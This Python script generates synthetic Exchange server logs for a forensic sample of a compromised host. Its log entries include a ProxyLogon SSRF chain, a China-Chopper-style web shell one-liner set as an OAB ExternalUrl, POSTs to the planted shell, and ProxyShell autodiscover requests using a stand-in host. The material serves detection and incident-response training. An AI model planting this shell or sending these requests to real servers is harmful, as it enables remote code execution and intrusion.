#!/usr/bin/env python3
"""Writes the log part of the bundled synthetic compromised server, samples/exch01.

Reproducible (fixed seed): run `python3 samples/make-sample-logs.py` and the files are byte-identical.
Everything is invented: host EXCH01 (Exchange 2016 CU19, 15.01.2176.002), domain contoso.local,
documentation IP ranges (RFC 5737) for every outside address.

One day (2021-03-03 UTC) of a mounted system drive's logs:
  * normal traffic: OWA, ECP admin work, EWS, MAPI, ActiveSync, Autodiscover, remote PowerShell,
    health-mailbox probes, through the front end (W3SVC1, HttpProxy) to the back end (W3SVC2);
  * the ProxyLogon chain from 203.0.113.77: autodiscover SSRF, /mapi/emsmdb SSRF, proxyLogon.ecp (241),
    OAB virtual directory ExternalUrl set to a China-Chopper-like script, ResetOABVirtualDirectory,
    the OAB generator writing C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx, then POSTs to that shell;
  * a ProxyShell attempt from 198.51.100.200 (dates are compressed into one day to keep the sample small);
  * scanner noise: the nmap NSE check (192.0.2.50) and a python-requests scan for known shell names
    (192.0.2.51), a search-engine crawler;
  * clean decoys: Outlook's autodiscover.json, an administrator changing the OWA URL in ECP, a
    legitimate OAB temporary file, remote PowerShell by the administrator.

Other helpers add files (web shell, LSASS dump, archives) to the same sample tree; this script only
writes the log files listed in LOG_FILES and leaves everything else alone.
"""
import os
import random
import uuid

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "exch01")
V15 = "Program Files/Microsoft/Exchange Server/V15"
BUILD = "15.01.2176.002"
HOST = "EXCH01"
FQDN = "EXCH01.contoso.local"
DAY = "2021-03-03"
ATTACKER = "203.0.113.77"
PROXYSHELL = "198.51.100.200"
NSE = "192.0.2.50"
SHELLSCAN = "192.0.2.51"
CRAWLER = "198.51.100.14"
SERVER_IP = "10.0.0.5"
CANARY = "bXlDYW5hcnlUb2tlbjEyMzQ1Njc4OTA"

HTTPPROXY_FIELDS = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,"
                    "UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
                    "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,"
                    "RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
                    "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,"
                    "TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,"
                    "TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,"
                    "ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,"
                    "BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,"
                    "KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,"
                    "CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,"
                    "GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus").split(",")
IIS_FIELDS = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"

rnd = random.Random(20210303)

USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar"]
CLIENTS = {u: f"10.0.{rnd.randint(10, 40)}.{rnd.randint(2, 250)}" for u in USERS}
DB = "fb7adba2-51f4-47e3-b170-fd39f85aaf35"
OUTLOOK = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
IOS = "Apple-iPhone12C1/1803.144"
SHELL_PAYLOAD = ('http://f/<script language="JScript" runat="server">function Page_Load()'
                 '{eval(Request["orange"],"unsafe");}</script>')


def rid():
    return str(uuid.UUID(int=rnd.getrandbits(128)))


def ts(seconds, ms=None):
    h, rem = divmod(int(seconds), 3600)
    m, s = divmod(rem, 60)
    ms = rnd.randint(0, 999) if ms is None else ms
    return f"{DAY}T{h:02}:{m:02}:{s:02}.{ms:03}Z"


def csv(v):
    v = str(v)
    return '"' + v.replace('"', '""') + '"' if ("," in v or '"' in v) else v


class Events:
    """Collects (time, line) per file so every file is written in time order."""

    def __init__(self):
        self.files = {}

    def add(self, path, t, line):
        self.files.setdefault(path, []).append((t, line))


EV = Events()


def proxy_path(protocol):
    return f"{V15}/Logging/HttpProxy/{protocol}/HttpProxy_2021030300-1.LOG"


def httpproxy(t, protocol, stem, status=200, method="GET", user="", anchor="", ua=OUTLOOK, ip=None, query="",
              backend_status=None, cookie="", auth="Negotiate", routing_hint="", errors=""):
    values = {
        "DateTime": ts(t), "RequestId": rid(), "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2176",
        "RevisionVersion": "2", "Protocol": protocol, "UrlHost": "mail.contoso.com", "UrlStem": stem,
        "AuthenticationType": auth if user else "", "IsAuthenticated": "true" if user else "false",
        "AuthenticatedUser": user, "AnchorMailbox": anchor, "UserAgent": ua, "ClientIpAddress": ip or "",
        "ServerHostName": HOST, "HttpStatus": str(status),
        "BackEndStatus": str(backend_status if backend_status is not None else (status if status < 500 else "")),
        "Method": method, "ProxyAction": "Proxy", "TargetServer": FQDN, "TargetServerVersion": "15.01.2176.000",
        "RoutingType": "IntraForest", "RoutingHint": routing_hint, "BackEndCookie": cookie,
        "RequestBytes": str(rnd.randint(200, 4000)), "ResponseBytes": str(rnd.randint(300, 90000)),
        "HttpPipelineLatency": "0", "CalculateTargetBackEndLatency": str(rnd.randint(0, 9)),
        "ProxyTime": str(rnd.randint(1, 120)), "CoreLatency": str(rnd.randint(1, 20)), "RoutingLatency": "0",
        "HttpProxyOverhead": str(rnd.randint(1, 15)), "TotalRequestTime": str(rnd.randint(5, 400)), "UrlQuery": query,
        "GenericInfo": f"BeginRequest={ts(t)};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942062522;"
                       f"ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest={ts(t)};",
        "GenericErrors": errors, "RoutingStatus": "CafeV1",
    }
    line = ",".join(csv(values.get(f, "")) for f in HTTPPROXY_FIELDS)
    EV.add(proxy_path(protocol), t, line)


def iis(t, site, method, stem, query="-", status=200, user="-", ip="10.0.20.5", ua=BROWSER, port=443, sub=0, win32=0):
    h, rem = divmod(int(t), 3600)
    m, s = divmod(rem, 60)
    line = (f"{DAY} {h:02}:{m:02}:{s:02} {SERVER_IP} "
            f"{method} {stem} {query or '-'} {port} {user or '-'} {ip} {(ua or '-').replace(' ', '+')} - {status} {sub} {win32} {rnd.randint(1, 900)}")
    EV.add(f"inetpub/logs/LogFiles/W3SVC{site}/u_ex210303.log", t, line)


def ecp(t, event_data, event="ECP.Request"):
    EV.add(f"{V15}/Logging/ECP/Server/ECPServer2021030300-1.LOG", t, f"{ts(t)},{HOST},{event},{csv(event_data)}")


def oab(t, level, message):
    EV.add(f"{V15}/Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG", t,
           f"{ts(t)},{rnd.randint(4, 80)},{level},contoso.local,\\Default Offline Address Book,{csv(message)}")


# ---------------------------------------------------------------- a normal day

def backend(t, method, stem, query, status, user):
    """The front end proxies to the back end site (W3SVC2, port 444) as the user; the back end sees the local front end."""
    iis(t + 0.01, 2, method, stem, query, status, user, ip="127.0.0.1", ua="", port=444)


def normal_day():
    for i in range(420):  # OWA sessions
        t = rnd.uniform(6 * 3600, 19 * 3600)
        u = rnd.choice(USERS)
        upn = f"{u}@contoso.com"
        action = rnd.choice(["GetFolder", "FindItem", "GetItem", "GetConversationItems", "SubscribeToNotification", "GetOwaUserConfiguration"])
        iis(t, 1, "POST", "/owa/service.svc", f"action={action}&EP=1&ID=-{rnd.randint(10, 99)}&AC=1", 200, f"CONTOSO\\{u}", CLIENTS[u])
        httpproxy(t, "Owa", "/owa/service.svc", 200, "POST", f"CONTOSO\\{u}", f"SMTP:{upn}", BROWSER, CLIENTS[u], f"?action={action}&EP=1&AC=1")
        backend(t, "POST", "/owa/service.svc", f"action={action}&EP=1&AC=1", 200, f"CONTOSO\\{u}")
        if i % 30 == 0:
            iis(t - 5, 1, "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0", 200, "-", CLIENTS[u])
            iis(t - 3, 1, "POST", "/owa/auth.owa", "-", 302, "-", CLIENTS[u])
            iis(t - 2, 1, "GET", "/owa/auth/15.1.2176/themes/resources/favicon.ico", "-", 200, "-", CLIENTS[u])
            iis(t - 2, 1, "GET", "/owa/auth/15.1.2176/scripts/premium/flogon.js", "-", 200, "-", CLIENTS[u])
    for i in range(380):  # Outlook: MAPI over HTTP, EWS, autodiscover
        t = rnd.uniform(0, 86399)
        u = rnd.choice(USERS)
        upn = f"{u}@contoso.com"
        kind = rnd.random()
        if kind < 0.5:
            q = f"?MailboxId={rid()}@contoso.com"
            iis(t, 1, "POST", "/mapi/emsmdb/", q[1:], 200, upn, CLIENTS[u], OUTLOOK)
            httpproxy(t, "Mapi", "/mapi/emsmdb/", 200, "POST", upn, f"MailboxGuid~{rid()}", OUTLOOK, CLIENTS[u], q,
                      cookie=f"Database~{DB}~~2021-03-04T{rnd.randint(0, 23):02}:00:00")
        elif kind < 0.8:
            iis(t, 1, "POST", "/EWS/Exchange.asmx", "-", 200, f"CONTOSO\\{u}", CLIENTS[u], OUTLOOK)
            httpproxy(t, "Ews", "/EWS/Exchange.asmx", 200, "POST", f"CONTOSO\\{u}", f"Sid~S-1-5-21-1004336348-1177238915-682003330-{1100 + USERS.index(u)}", OUTLOOK, CLIENTS[u])
        else:
            iis(t, 1, "POST", "/autodiscover/autodiscover.xml", "-", 200, upn, CLIENTS[u], OUTLOOK)
            httpproxy(t, "Autodiscover", "/autodiscover/autodiscover.xml", 200, "POST", upn, f"SMTP:{upn}", OUTLOOK, CLIENTS[u])
    for i in range(160):  # phones: ActiveSync and the autodiscover.json decoy Outlook mobile uses
        t = rnd.uniform(5 * 3600, 23 * 3600)
        u = rnd.choice(USERS)
        upn = f"{u}@contoso.com"
        dev = f"{(USERS.index(u) + 1) * 7919 * 104729:012d}"
        if i % 4 == 0:
            q = "Protocol=ActiveSync&RedirectCount=1"
            iis(t, 1, "GET", f"/autodiscover/autodiscover.json/v1.0/{upn}", q, 200, "-", CLIENTS[u], "Outlook-iOS/723.4027091.prod.iphone (4.2105.0)")
            httpproxy(t, "Autodiscover", f"/autodiscover/autodiscover.json/v1.0/{upn}", 200, "GET", "", f"SMTP:{upn}",
                      "Outlook-iOS/723.4027091.prod.iphone (4.2105.0)", CLIENTS[u], "?" + q)
        q = f"Cmd=Sync&User={u}&DeviceId={dev}&DeviceType=iPhone"
        iis(t, 1, "POST", "/Microsoft-Server-ActiveSync/default.eas", q, 200, f"CONTOSO\\{u}", CLIENTS[u], IOS)
        httpproxy(t, "Eas", "/Microsoft-Server-ActiveSync/default.eas", 200, "POST", f"CONTOSO\\{u}", f"SMTP:{upn}", IOS, CLIENTS[u], "?" + q, auth="Basic")
    for i in range(96):  # Managed availability probes from the server itself
        t = i * 900 + rnd.uniform(0, 60)
        iis(t, 1, "GET", "/owa/healthcheck.htm", "-", 200, "-", "127.0.0.1", "AMProbe/Local/ClientAccess")
        iis(t + 1, 1, "POST", "/EWS/Exchange.asmx", "-", 200, "HealthMailbox7a1c@contoso.local", "::1", "AMProbe/Local/ClientAccess")
        httpproxy(t + 1, "Ews", "/EWS/Exchange.asmx", 200, "POST", "HealthMailbox7a1c@contoso.local", "SMTP:HealthMailbox7a1c@contoso.local",
                  "AMProbe/Local/ClientAccess", "::1")
    # Decoy: the administrator's ECP work and remote PowerShell (URL change without markup, a vdir read).
    admin_ip = "10.0.10.12"
    for k, t in enumerate([9 * 3600 + 610, 9 * 3600 + 622, 9 * 3600 + 640, 9 * 3600 + 655]):
        iis(t, 1, "GET" if k == 0 else "POST", "/ecp/" if k == 0 else "/ecp/DDI/DDIService.svc/GetList",
            "-" if k == 0 else f"schema=VirtualDirectory&msExchEcpCanary={CANARY}", 200, "CONTOSO\\admin", admin_ip)
        httpproxy(t, "Ecp", "/ecp/" if k == 0 else "/ecp/DDI/DDIService.svc/GetList", 200, "GET" if k == 0 else "POST",
                  "CONTOSO\\admin", "Sid~S-1-5-21-1004336348-1177238915-682003330-500", BROWSER, admin_ip,
                  "" if k == 0 else f"?schema=VirtualDirectory&msExchEcpCanary={CANARY}")
        ecp(t, f"S:TIME={rnd.randint(20, 90)};S:SID={rid()};S:CMD=Get-OwaVirtualDirectory;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectory;"
               f"S:REFERRER=;S:EX=;S:ACTID={rid()};S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:USID={rid()};S:EDOID=;S:ACID=")
    t = 9 * 3600 + 700
    iis(t, 1, "POST", "/ecp/DDI/DDIService.svc/SetObject", f"schema=OWAVirtualDirectory&msExchEcpCanary={CANARY}", 200, "CONTOSO\\admin", admin_ip)
    ecp(t, f"S:TIME=141;S:SID={rid()};S:CMD=Set-OwaVirtualDirectory.Identity='EXCH01\\owa (Default Web Site)'.ExternalUrl='https://mail.contoso.com/owa';"
           f"S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory;S:REFERRER=;S:EX=;S:ACTID={rid()};S:RS=0;S:BLD=15.1.2176.2")
    for k in range(6):
        t = 10 * 3600 + k * 47
        q = "?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.14393.4104"
        iis(t, 1, "POST", "/powershell", q[1:], 200, "CONTOSO\\admin", admin_ip, "Microsoft WinRM Client")
        httpproxy(t, "PowerShell", "/powershell", 200, "POST", "CONTOSO\\admin", "Sid~S-1-5-21-1004336348-1177238915-682003330-500",
                  "Microsoft WinRM Client", admin_ip, q, auth="Kerberos")
    # OAB generation: normal runs, one legitimate temporary-file cleanup inside ClientAccess\OAB.
    for h in range(0, 24, 8):
        oab(h * 3600 + 120, "Info", "OABGeneratorAssistant: generation of \\Default Offline Address Book started.")
        oab(h * 3600 + 185, "Info", "OABGeneratorAssistant: generation of \\Default Offline Address Book completed.")
    oab(8 * 3600 + 170, "Warning", "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\"
                                   "3f2b1c9e-aa41-4f7e-9d0e-5e3c1f0b7a21.tmp' needs to be removed.")
    # A search-engine crawler on the public OWA page (context only).
    iis(4 * 3600 + 812, 1, "GET", "/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2fmail.contoso.com%2fowa%2f", 200, "-", CRAWLER,
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")


# ---------------------------------------------------------------- the ProxyLogon chain

def ssrf(t, carrier, target, status=200, backend_status=None, ua="ExchangeServicesClient/0.0.0.0", method="POST"):
    """One forged request: the front-end IIS line, the HttpProxy Ecp line that shows the target, the back-end line."""
    anchor = f"ServerInfo~a]@{FQDN}:444/{target}"
    iis(t, 1, method, carrier, "-", status, "-", ATTACKER, ua)
    httpproxy(t, "Ecp", carrier, status, method, "", anchor, ua, ATTACKER, backend_status=backend_status,
              cookie="", routing_hint="", auth="")
    path, _, query = target.partition("?")
    backend(t, method, "/" + path.split("#")[0], query.split("#")[0] or "-", status if status != 500 else 500, "NT AUTHORITY\\SYSTEM".replace(" ", "+"))


def proxylogon():
    t = 2 * 3600 + 14 * 60 + 7
    ssrf(t, "/ecp/y.js", "autodiscover/autodiscover.xml?#", 200)
    ssrf(t + 2, "/ecp/y.js", "mapi/emsmdb?MailboxId=f26bc5f3-2f9c-4bbb-8d7a-5e1b7c0e8a2d@contoso.com&a=~1942062522", 200)
    ssrf(t + 4, "/ecp/y.js", "ecp/proxyLogon.ecp?a=~1942062522", 241, 241)
    ssrf(t + 7, "/ecp/y.js", f"ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a=~1942062522", 200)
    ssrf(t + 10, "/ecp/y.js", f"ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a=~1942062522", 200)
    ecp(t + 10, f"S:TIME=388;S:SID={rid()};S:CMD=Set-OabVirtualDirectory.ExternalUrl='{SHELL_PAYLOAD}'.Identity='b1a3f1d1-7a1e-4d0b-9a35-2bd6b6f4a6c8';"
                f"S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a=~1942062522;"
                f"S:REFERRER=;S:EX=;S:ACTID={rid()};S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:USID={rid()};S:EDOID=;S:ACID=")
    # The reset: "ResetOABVirtualDirectory" in the middle of the forged query, not at its end.
    ssrf(t + 14, "/ecp/y.js", f"ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}&a=~1942062522", 200)
    oab(t + 18, "Error", "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.")
    # The shell in use: China Chopper POSTs, later from antSword.
    for k, dt in enumerate([115, 131, 158, 3 * 3600 + 12, 8 * 3600 + 3, 8 * 3600 + 41]):
        ua = "antSword/v2.1" if k >= 4 else "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0"
        iis(t + dt, 1, "POST", "/aspnet_client/discover.aspx", "-", 200, "-", ATTACKER, ua)


def proxyshell():
    t = 14 * 3600 + 22 * 60 + 5
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36"
    q1 = "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"
    iis(t, 1, "POST", "/autodiscover/autodiscover.json", q1, 400, "-", PROXYSHELL, ua)
    httpproxy(t, "Autodiscover", "/autodiscover/autodiscover.json", 400, "POST", "", "", ua, PROXYSHELL, "?" + q1, backend_status="")
    q2 = "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhBZG1pbmlzdHJhdG9yQGNvbnRvc28uY29t&Email=autodiscover/autodiscover.json%3F@evil.corp"
    iis(t + 3, 1, "GET", "/autodiscover/autodiscover.json", q2, 404, "-", PROXYSHELL, ua)
    httpproxy(t + 3, "Autodiscover", "/autodiscover/autodiscover.json", 404, "GET", "", "", ua, PROXYSHELL, "?" + q2, backend_status="")


def scanners():
    t = 11 * 3600 + 5 * 60
    # nmap's http-vuln-cve2021-26855 check
    iis(t, 1, "GET", "/ecp/default.flt", "-", 500, "-", NSE, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
    httpproxy(t, "Ecp", "/ecp/default.flt", 500, "GET", "", "ServerInfo~localhost/ecp/default.flt?",
              "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", NSE, backend_status="")
    # A scan for shell names dropped elsewhere (all 404 here)
    for k, stem in enumerate(["/aspnet_client/system_web/log.aspx", "/aspnet_client/supp0rt.aspx", "/owa/auth/shel90.aspx",
                              "/owa/auth/errorEE.aspx", "/aspnet_client/HttpProxy.aspx", "/ecp/auth/OutlookEN.aspx"]):
        iis(t + 600 + k * 2, 1, "GET", stem, "-", 404, "-", SHELLSCAN, "python-requests/2.25.1", sub=0, win32=2)


LOG_FILES = {}


def write():
    headers = {
        "HttpProxy": lambda: (f"#Software: Microsoft Exchange Server\r\n#Version: {BUILD}\r\n#Log-type: HttpProxy Logs\r\n"
                              f"#Date: {DAY}T00:00:00.512Z\r\n#Fields: {','.join(HTTPPROXY_FIELDS)}\r\n"),
        "W3SVC": lambda: (f"#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {DAY} 00:00:00\r\n"
                          f"#Fields: {IIS_FIELDS}\r\n"),
        "ECP": lambda: (f"#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n"
                        f"#Date: {DAY}T00:01:18.223Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"),
        "OABGeneratorLog": lambda: (f"#Software: Microsoft Exchange Server\r\n#Version: {BUILD}\r\n#Log-type: OABGenerator Log\r\n"
                                    f"#Date: {DAY}T00:02:00.000Z\r\n#Fields: Timestamp,ThreadId,Level,Organization,OabName,Message\r\n"),
    }
    total = 0
    for rel, events in sorted(EV.files.items()):
        kind = ("HttpProxy" if "/Logging/HttpProxy/" in rel else "W3SVC" if rel.startswith("inetpub/") else
                "ECP" if "/Logging/ECP/" in rel else "OABGeneratorLog")
        events.sort(key=lambda e: e[0])
        body = headers[kind]() + "".join(line + "\r\n" for _, line in events)
        path = os.path.join(ROOT, *rel.split("/"))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(body)
        total += len(body.encode())
        LOG_FILES[rel] = len(events)
    for rel, n in sorted(LOG_FILES.items()):
        print(f"{n:6} lines  {rel}")
    print(f"{total / 1024:.0f} KiB of logs")


if __name__ == "__main__":
    normal_day()
    proxylogon()
    proxyshell()
    scanners()
    write()
